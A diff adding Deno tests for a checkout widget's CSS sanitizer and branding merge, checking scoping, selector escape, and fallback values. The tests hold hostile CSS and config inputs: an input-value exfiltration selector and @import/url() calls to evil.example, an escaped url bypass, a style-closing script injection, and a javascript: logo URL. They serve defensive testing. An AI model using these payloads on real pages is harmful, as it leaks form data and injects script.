@@ -0,0 +1,63 @@
+import { assert, assertEquals } from 'https://deno.land/std@0.177.0/testing/asserts.ts'
+import { brandingCssVariables, mergeBranding, sanitizeCustomCss } from './widget-branding.ts'
+
+Deno.test('custom css is scoped under the checkout container', () => {
+  const css = sanitizeCustomCss('.primary-btn { text-transform: uppercase } body, :root { color: #111 }', '#checkout')
+  assertEquals(css, '#checkout .primary-btn { text-transform: uppercase }\n#checkout { color: #111 }')
+
+  const media = sanitizeCustomCss('@media (max-width: 400px) { h1 { font-size: 14px } }', '#checkout')
+  assertEquals(media, '@media (max-width: 400px) {\n#checkout h1 { font-size: 14px }\n}')
+})
+
+Deno.test('custom css cannot select outside the checkout container', () => {
+  const css = sanitizeCustomCss(
+    '~ .x, + .y, > .z { color: red } html ~ footer, :root + p { color: red } body > main, .a ~ .b { color: blue }',
+    '#checkout',
+  )
+  assertEquals(css, '#checkout > main, #checkout .a ~ .b { color: blue }')
+})
+
+Deno.test('custom css cannot load resources or leave its style element', () => {
+  const css = sanitizeCustomCss(
+    [
+      '@import "https://evil.example/x.css";',
+      '@font-face { font-family: x; src: url(https://evil.example/f) }',
+      'input[value^="a"] { background: url(https://evil.example/?a); color: red }',
+      '.x { background: u\\72l(https://evil.example/) }',
+      '.y { background-image: image-set("https://evil.example/i" 1x) }',
+      '.z { color: blue } </style><script>alert(1)</script>',
+      '.w { behavior: url(x.htc); -moz-binding: none }',
+      '@media screen { @media print { p { color: red } } }',
+    ].join('\n'),
+    '#checkout',
+  )
+
+  assert(!/url\(|image-set|@import|@font-face|behavior|binding|<|\\/i.test(css), css)
+  assert(css.includes('#checkout input[value^="a"] { color: red }'))
+  assert(css.includes('#checkout .z { color: blue }'))
+  assert(!css.includes('print'))
+})
+
+Deno.test('branding falls back to organizer branding and gates powered-by on paid tiers', () => {
+  const config = { primary_color: null, font_family: 'Poppins', button_style: 'pill', show_powered_by: false }
+  const organizer = { primary_color: '#112233', accent_color: '#445566', logo_url: 'https://cdn.example/logo.png' }
+
+  const base = mergeBranding(config, organizer, false, '#checkout')
+  assertEquals(base.primary_color, '#112233')
+  assertEquals(base.accent_color, '#445566')
+  assertEquals(base.logo_url, 'https://cdn.example/logo.png')
+  assertEquals(base.show_powered_by, true)
+  assertEquals(mergeBranding(config, organizer, true, '#checkout').show_powered_by, false)
+
+  const hostile = mergeBranding(
+    { primary_color: 'red;}', font_family: "x'} body{", logo_url: 'javascript:alert(1)', button_style: 'blob' },
+    null,
+    true,
+    '#checkout',
+  )
+  assertEquals(hostile.primary_color, '#6366F1')
+  assertEquals(hostile.font_family, 'Inter')
+  assertEquals(hostile.logo_url, null)
+  assertEquals(hostile.button_style, 'rounded')
+  assert(brandingCssVariables(base).includes('--button-radius: 999px'))
+})